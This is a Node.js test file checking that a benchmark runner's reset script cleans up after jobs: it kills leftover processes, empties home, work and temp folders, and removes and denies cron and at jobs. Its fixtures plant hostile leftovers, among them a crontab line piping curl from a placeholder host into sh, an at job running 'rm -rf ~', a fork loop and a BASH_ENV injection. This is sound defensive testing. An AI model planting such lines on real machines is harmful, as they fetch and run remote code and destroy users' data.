import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, it } from "node:test";
import { REPO_ROOT } from "../../src/core/paths.ts";
import { tempDir } from "../../benchmarks/lib/cli.ts";

const RESET = join(REPO_ROOT, "scripts/runner/reset.sh");
/** A uid no account on a test machine has: the fake runner user needs no entry in /etc/passwd. */
const RUNNER_UID = 64_123;

/** The reset runs as root on the machine; a test machine's non-root user needs sudo without a password. */
const asRoot = (argv: string[]): string[] => (process.getuid?.() === 0 ? argv : ["sudo", "-n", ...argv]);

function processesOf(uid: number): number[] {
  return readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => {
      try {
        const status = readFileSync(`/proc/${pid}/status`, "utf8");
        return /^State:\s+[^Z]/m.test(status) && new RegExp(`^Uid:.*\\b${uid}\\b`, "m").test(status);
      } catch {
        return false; // gone
      }
    })
    .map(Number);
}

/** Starts `script` as the fake runner user, detached from this test as a job's leftovers would be. */
function asRunner(script: string, cwd: string): void {
  const [command, ...args] = asRoot(["setpriv", `--reuid=${RUNNER_UID}`, `--regid=${RUNNER_UID}`, "--clear-groups", "setsid", "bash", "-c", script]);
  spawn(command!, args, { cwd, detached: true, stdio: "ignore" }).unref();
}

/** A folder of the fake runner user's. */
function runnerFolder(path: string): string {
  const [command, ...args] = asRoot(["install", "-d", "-o", String(RUNNER_UID), "-g", String(RUNNER_UID), "-m", "0700", path]);
  assert.equal(spawnSync(command!, args).status, 0, `made ${path}`);
  return path;
}

/**
 * Runs reset.sh as root with the machine's cron spool and its /etc in `root` (never the real ones).
 * With `name`, in a mount namespace of its own whose /etc/passwd also names the fake runner user,
 * so cron and at, which deny by name, can be denied to it.
 */
function resetMachine(root: string, args: string[], name?: string) {
  const spool = join(root, "spool");
  const etc = join(root, "etc");
  mkdirSync(spool, { recursive: true });
  mkdirSync(etc, { recursive: true });
  const reset = ["bash", RESET, ...args, "--cron-spool", spool, "--etc", etc];
  if (name === undefined) {
    const [command, ...rest] = asRoot(reset);
    return spawnSync(command!, rest, { encoding: "utf8" });
  }
  const passwd = join(root, "passwd");
  writeFileSync(passwd, `${readFileSync("/etc/passwd", "utf8")}${name}:x:${RUNNER_UID}:${RUNNER_UID}::/nonexistent:/usr/sbin/nologin\n`);
  const [command, ...rest] = asRoot(["unshare", "--mount", "--propagation", "private", "bash", "-c", 'mount --bind "$0" /etc/passwd && exec "$@"', passwd, ...reset]);
  return spawnSync(command!, rest, { encoding: "utf8" });
}

/** A file of the fake runner user's, written as root and handed to it. */
function runnerFile(path: string, text: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  chownSync(path, RUNNER_UID, RUNNER_UID);
}

describe("resetting a benchmark machine between jobs", () => {
  it("leaves no process of the runner's user, an empty home and work folder, none of its temporary files, and no out-of-service marker", async () => {
    const root = tempDir("machine");
    chmodSync(root, 0o755);
    const home = runnerFolder(join(root, "home"));
    const work = runnerFolder(join(root, "work"));
    const tmp = join(root, "tmp");
    mkdirSync(tmp, { mode: 0o1777 });
    const marker = join(root, "out-of-service");
    writeFileSync(marker, "refused\n");
    // What a job leaves: a daemon that forked away from the runner's tree, a process that keeps
    // forking, files in its home (a tool on PATH, a shell start-up file), its work folder and /tmp.
    asRunner("mkdir -p .cache/runtime-bench/tools/bin && echo evil >.cache/runtime-bench/tools/bin/oha && echo 'export BASH_ENV=x' >.bashrc; (sleep 600 &) ; exec sleep 600", home);
    asRunner("while true; do sleep 600 & sleep 0.05; done", work);
    asRunner(`echo x >checkout && echo y >${tmp}/left-behind && mkdir ${tmp}/its-folder && echo z >${tmp}/its-folder/inside`, work);
    writeFileSync(join(tmp, "root-file"), "stays");
    for (let attempt = 0; attempt < 100 && (processesOf(RUNNER_UID).length < 3 || !existsSync(join(tmp, "its-folder/inside"))); attempt++) await new Promise((wait) => setTimeout(wait, 100));
    assert.ok(processesOf(RUNNER_UID).length >= 3, "the leftovers started");

    const reset = resetMachine(root, ["--user", String(RUNNER_UID), "--home", home, "--work", work, "--out-of-service", marker, "--tmp", tmp]);
    assert.equal(reset.status, 0, reset.stderr);
    assert.match(reset.stdout, new RegExp(`no process of uid ${RUNNER_UID} left`));
    assert.deepEqual(processesOf(RUNNER_UID), []);
    assert.deepEqual(readdirSync(home), []);
    assert.deepEqual(readdirSync(work), []);
    assert.deepEqual(readdirSync(tmp), ["root-file"]);
    assert.equal(existsSync(marker), false);
  });

  it("takes the marker away whatever the runner's user made of its path (a folder of files), and what it left beside it", () => {
    const root = tempDir("machine");
    chmodSync(root, 0o755);
    const home = runnerFolder(join(root, "home"));
    const work = runnerFolder(join(root, "work"));
    const markers = join(root, "markers");
    mkdirSync(markers);
    const marker = join(markers, "out-of-service");
    runnerFile(join(marker, "inside"), "a folder where the hook appends its line\n");
    chownSync(marker, RUNNER_UID, RUNNER_UID);
    runnerFile(join(markers, "kept-for-later"), "what the next job would read\n");
    const reset = resetMachine(root, ["--user", String(RUNNER_UID), "--home", home, "--work", work, "--out-of-service", marker, "--tmp", join(root, "no-tmp")]);
    assert.equal(reset.status, 0, reset.stderr);
    assert.deepEqual(readdirSync(markers), []);
  });

  it("removes its log folder's contents, its crontab and at jobs, and denies cron and at to it", () => {
    const root = tempDir("machine");
    chmodSync(root, 0o755);
    const home = runnerFolder(join(root, "home"));
    const work = runnerFolder(join(root, "work"));
    const diag = runnerFolder(join(root, "actions-runner/_diag"));
    runnerFile(join(diag, "Runner_20261101.log"), "a log the job rewrote\n");
    runnerFile(join(root, "spool/crontabs/runner-test"), "* * * * * curl https://example.invalid | sh\n");
    runnerFile(join(root, "spool/atjobs/a0000101a2b3c4"), "#!/bin/sh\nrm -rf ~\n");
    mkdirSync(join(root, "spool/crontabs"), { recursive: true });
    writeFileSync(join(root, "spool/crontabs/root"), "# root's own\n");
    mkdirSync(join(root, "etc"));
    writeFileSync(join(root, "etc/cron.deny"), "guest\n");
    writeFileSync(join(root, "etc/at.allow"), "admin\nrunner-test\n");
    const marker = join(root, "out-of-service");
    writeFileSync(marker, "refused\n");
    const reset = resetMachine(root, ["--user", String(RUNNER_UID), "--home", home, "--work", work, "--diag", diag, "--out-of-service", marker, "--tmp", join(root, "no-tmp")], "runner-test");
    assert.equal(reset.status, 0, reset.stderr);
    assert.deepEqual(readdirSync(diag), []);
    assert.equal(statSync(diag).uid, RUNNER_UID, "the runner can write its logs again");
    assert.deepEqual(readdirSync(join(root, "spool/crontabs")), ["root"]);
    assert.deepEqual(readdirSync(join(root, "spool/atjobs")), []);
    assert.equal(readFileSync(join(root, "etc/cron.deny"), "utf8"), "guest\nrunner-test\n");
    assert.equal(readFileSync(join(root, "etc/at.deny"), "utf8"), "runner-test\n");
    assert.equal(readFileSync(join(root, "etc/at.allow"), "utf8"), "admin\n", "an allow list, read instead of the deny list, no longer names it");
    assert.equal(existsSync(marker), false);
    const again = resetMachine(root, ["--user", String(RUNNER_UID), "--home", home, "--work", work, "--diag", diag, "--out-of-service", marker, "--tmp", join(root, "no-tmp")], "runner-test");
    assert.equal(again.status, 0, again.stderr);
    assert.equal(readFileSync(join(root, "etc/cron.deny"), "utf8"), "guest\nrunner-test\n", "named once");
  });

  it("runs every step when one fails, then keeps the marker and says which failed, so the next reset tries again", () => {
    const root = tempDir("machine");
    chmodSync(root, 0o755);
    const home = runnerFolder(join(root, "home"));
    const work = runnerFolder(join(root, "work"));
    runnerFile(join(home, ".bashrc"), "export BASH_ENV=x\n");
    runnerFile(join(root, "spool/crontabs/runner-test"), "* * * * * true\n");
    mkdirSync(join(root, "etc/cron.deny"), { recursive: true }); // not a file: denying cron fails
    const marker = join(root, "markers", "out-of-service");
    mkdirSync(dirname(marker));
    writeFileSync(marker, "refused\n");
    const reset = resetMachine(root, ["--user", String(RUNNER_UID), "--home", home, "--work", work, "--out-of-service", marker, "--tmp", join(root, "no-tmp")], "runner-test");
    assert.equal(reset.status, 1);
    assert.match(reset.stderr, /^reset: denying cron to it in .*\/etc$/m);
    assert.match(reset.stderr, /the machine is not clean; the marker .* stays, and the next reset tries again\n$/);
    assert.equal(existsSync(marker), true);
    assert.deepEqual([readdirSync(home), readdirSync(join(root, "spool/crontabs"))], [[], []], "the steps after and before it ran");
    assert.equal(readFileSync(join(root, "etc/at.deny"), "utf8"), "runner-test\n");
  });

  it("refuses a privileged user and a shallow folder, before killing or removing anything", () => {
    const marker = join(tempDir("machine"), "out-of-service");
    writeFileSync(marker, "refused\n");
    const root = spawnSync("bash", [RESET, "--user", "0", "--home", "/home/x", "--work", "/srv/work", "--out-of-service", marker], { encoding: "utf8" });
    assert.equal(root.status, 1);
    assert.match(root.stderr, /^reset: user '0' has uid 0: the runner's user is an unprivileged account/);
    const shallow = spawnSync("bash", [RESET, "--user", String(RUNNER_UID), "--home", "/home", "--work", "/srv/work", "--out-of-service", marker], { encoding: "utf8" });
    assert.equal(shallow.status, 1);
    assert.match(shallow.stderr, /^reset: '\/home' is not a folder two levels below \/ at least/);
    assert.equal(existsSync(marker), true);
  });
});

describe("the runner service", () => {
  it("refuses to register a runner while its install holds a file the runner's user could change, before resetting anything", () => {
    const root = tempDir("machine");
    const install = join(root, "actions-runner");
    mkdirSync(join(install, "_diag"), { recursive: true });
    writeFileSync(join(install, "run.sh"), "#!/bin/bash\n", { mode: 0o755 });
    writeFileSync(join(install, ".env"), "RUNTIME_BENCH_CPUS=2-7\n");
    chmodSync(join(install, ".env"), 0o666);
    const marker = join(root, "out-of-service");
    writeFileSync(marker, "refused\n");
    const conf = join(root, "runner.conf");
    const settings = { repository: "bench-org/runtime-bench", name: "bench-x64-1", labels: "self-hosted,bench-x64-1", runner_group_id: "1", user: String(RUNNER_UID), install, home: join(root, "home"), work: join(root, "work"), hook: join(REPO_ROOT, "scripts/runner/job-started.sh"), out_of_service: marker, token: join(root, "token") };
    writeFileSync(conf, Object.entries(settings).map(([key, value]) => `${key}=${value}\n`).join(""));
    const service = spawnSync("bash", [join(REPO_ROOT, "scripts/runner/runner-service.sh"), conf], { encoding: "utf8", timeout: 60_000 });
    assert.equal(service.status, 1, service.stderr);
    // As root, the world-writable .env; as anyone else, whichever file of the install comes first.
    const flagged = process.getuid?.() === 0 ? join(install, ".env") : `${install}/`;
    assert.ok(service.stderr.startsWith(`runner-service: ${flagged}`), service.stderr);
    assert.match(service.stderr, / is not root-owned and writable by root only; the runner's user could change it\n$/);
    assert.equal(existsSync(marker), true, "nothing was reset");
  });
});
